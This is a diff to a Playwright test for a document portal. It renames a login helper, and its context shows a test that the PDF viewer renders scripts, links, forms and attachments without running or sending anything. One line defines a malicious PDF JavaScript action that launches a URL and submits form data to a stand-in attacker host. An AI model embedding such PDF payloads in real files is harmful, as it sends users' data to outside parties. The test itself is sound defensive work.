@@ -3,7 +3,7 @@ import { expect, test, type Page } from '@playwright/test'
 import { begins, words } from '../../portal/names.ts'
 import { FIRST_EXTRA, makePdf } from '../../portal/pdfMaker.ts'
 import { demo } from '../../portal/people.ts'
-import { logIn } from '../../portal/session.ts'
+import { signIn } from '../../portal/session.ts'
 
 const ELSEWHERE = 'https://jahat.example'
 const script = `<</S/JavaScript/JS(app.alert\\('jalan'\\); app.launchURL\\('${ELSEWHERE}/js', true\\); this.submitForm\\('${ELSEWHERE}/kirim'\\);)>>`
@@ -61,7 +61,7 @@ function watch(page: Page): string[] {
 test('a PDF with scripts, links, a form and an attachment is drawn; none of it runs, opens, is fetched or sent', async ({
   page,
 }) => {
-  await logIn(page, demo.sari)
+  await signIn(page, demo.sari)
   await page.goto('/user-document?kind=out&q=Tanda%20Terima')
   await page.getByRole('row').nth(1).getByRole('link').first().click()
   await expect(page.getByRole('heading', { level: 1 })).toHaveText(begins('Rincian Dokumen'))
